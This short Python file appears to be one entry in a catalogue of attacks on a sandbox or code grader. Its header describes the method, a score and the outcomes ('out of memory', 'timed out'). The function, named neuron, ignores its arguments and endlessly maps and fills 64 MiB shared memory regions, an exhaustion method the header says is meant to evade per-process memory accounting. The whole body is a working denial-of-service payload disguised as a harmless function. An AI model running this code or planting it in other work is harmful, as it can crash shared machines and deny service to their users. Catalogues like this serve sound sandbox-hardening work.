# /// attack
# lines = [23]
# tries = "Takes memory that the kernel does not count as the process's own: shared maps, with every piece written to."
# score = 18
# outcomes = { "1.2" = ["out of memory", "timed out"] }
# ///
import mmap


def neuron(x, w, b, f):
    kept = []
    try:
        while True:
            kept.append(mmap.mmap(-1, 2**26))
            kept[-1].write(b"x" * 2**26)
    except OSError as error:
        raise MemoryError from error
